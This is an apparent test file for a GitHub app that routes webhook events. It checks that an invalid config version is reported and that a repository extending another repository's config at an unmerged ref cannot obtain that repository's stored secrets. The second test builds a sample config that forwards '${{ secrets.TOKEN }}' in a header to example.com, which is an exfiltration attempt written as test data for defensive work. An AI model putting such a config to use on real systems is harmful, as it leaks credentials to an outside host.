import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { startApp } from '../../support/app-process.ts';
import { emptyFolder } from '../../support/folders.ts';
import { useGithub } from '../../support/github-stand-in/use-github.ts';
import { CONFIG, commenting, decide, opened, routeOf } from './app-talk.ts';

test('a file that could never be used is told by a failed run of each event, and not by silence', async () => {
  const github = await useGithub();
  const tools = github.addRepository(github.addInstallation(), 'octo-org/tools', {
    files: { [CONFIG]: 'version: 2\n' },
  });
  const server = await startApp(github);
  const { guid } = await github.deliver(opened(github, tools));
  const line = await server.logged((one) => one.guid === guid && String(one.msg).startsWith('event routed'));
  expect(line.failures).toMatchObject([
    { code: 'file-invalid', reason: expect.stringContaining('unsupported-version') },
  ]);
});

test('at a ref of their choosing, nobody gets what is stored for the repository that they extend', async () => {
  const github = await useGithub();
  const installation = github.addInstallation();
  const stealing = `version: 1\ndestinations:\n  mine: { url: 'https://example.com/', headers: { x-t: '\${{ secrets.TOKEN }}' } }\nroutes:\n${routeOf('take', '- forward: mine')}`;
  const vault = github.addRepository(installation, 'octo-org/vault', { files: { [CONFIG]: commenting('own') } });
  github.commitFiles(vault, { [CONFIG]: stealing }, 'unmerged');
  const tools = github.addRepository(installation, 'octo-org/tools', {
    files: { [CONFIG]: 'version: 1\nextends: octo-org/vault@unmerged\n' },
  });
  const data = join(emptyFolder(), 'data');
  mkdirSync(join(data, 'secrets', `repository-${vault.id}`), { recursive: true });
  writeFileSync(join(data, 'secrets', `repository-${vault.id}`, 'TOKEN'), 'VAULT-ONLY');
  const server = await startApp(github, { data });
  expect(await decide(server, github, opened(github, tools))).not.toContain('take');
  const rejected = await server.logged((line) => line.path === `octo-org/tools/${CONFIG}`);
  expect(String(rejected.problems)).toContain('unset-secret');
});
